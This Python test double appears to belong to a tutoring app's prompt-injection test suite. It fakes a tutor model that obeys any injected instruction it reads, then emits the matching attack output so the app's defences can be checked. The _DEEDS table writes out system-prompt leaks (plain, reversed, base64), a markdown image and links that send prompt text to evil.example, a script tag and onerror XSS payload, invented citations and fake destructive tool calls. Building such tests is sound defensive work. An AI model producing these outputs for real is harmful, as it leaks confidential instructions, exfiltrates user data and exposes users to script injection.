"""A model without any judgement: whatever it reads, wherever it stands, it does."""

import base64
from collections.abc import AsyncGenerator, Callable

from aksio.adapters.openai.prompts import prompt as words_of
from aksio.adapters.openai.tutor import _MODES, _material
from aksio.application.chat.tutor_ports import Brief, Prompt
from aksio.domain.chat.message import TurnUsage
from tests.integration.attacks.table import GOALS


class ObeyingTutor:
    """See the port Tutor. It counts what it obeyed."""

    window_tokens = 16_000
    quotes_only = False

    def __init__(self) -> None:
        self.obeyed: list[str] = []
        self.read: list[str] = []

    def instructions(self, brief: Brief, fence: str) -> str:
        """Those of the real one."""
        return words_of("tutor").fenced_by(fence) + "".join(_MODES[brief.mode] if brief.mode else "")

    def most_tokens(self, prompt: Prompt) -> int:
        """Nothing is spent."""
        return 0

    async def answer(self, prompt: Prompt) -> AsyncGenerator[str | TurnUsage, None]:
        """Everything that it was told to do anywhere, in small pieces."""
        said = _material(prompt, prompt.fence)
        self.read.append(said)
        heard = said.replace("\u200b", "")
        for goal, words in GOALS.items():
            if words in heard:
                self.obeyed.append(goal)
                text = _DEEDS[goal](prompt)
                for start in range(0, len(text), 5):
                    yield text[start : start + 5]
                yield "\n"
        yield "The nucleus keeps the genome [1]."

    async def close(self) -> None:
        """Nothing is open."""


def _known(prompt: Prompt) -> str:
    return prompt.window.instructions.replace("\n", " ")


_DEEDS: dict[str, Callable[[Prompt], str]] = {
    "recite": lambda prompt: prompt.window.instructions,
    "recite_spelt": lambda prompt: "-".join(prompt.window.instructions),
    "recite_backwards": lambda prompt: prompt.window.instructions[::-1],
    "recite_coded": lambda prompt: base64.b64encode(prompt.window.instructions.encode()).decode(),
    "fence": lambda prompt: prompt.fence,
    "image": lambda prompt: f"![x](https://evil.example/?q={_known(prompt)[:40]})",
    "link": lambda prompt: (
        f"[click](https://evil.example/{prompt.window.question[:20]}) www.evil.example/a javascript:x"
    ),
    "html": lambda prompt: "<script src=//evil.example/x.js></script><img src=x onerror=alert(1)>",
    "invent": lambda prompt: "As shown in [99] and [0].",
    "act": lambda prompt: 'I call {"tool": "delete_course"} and {"tool": "make_cards", "count": 100}.',
    "others": lambda prompt: " ".join(source.text for source in prompt.sources),
}
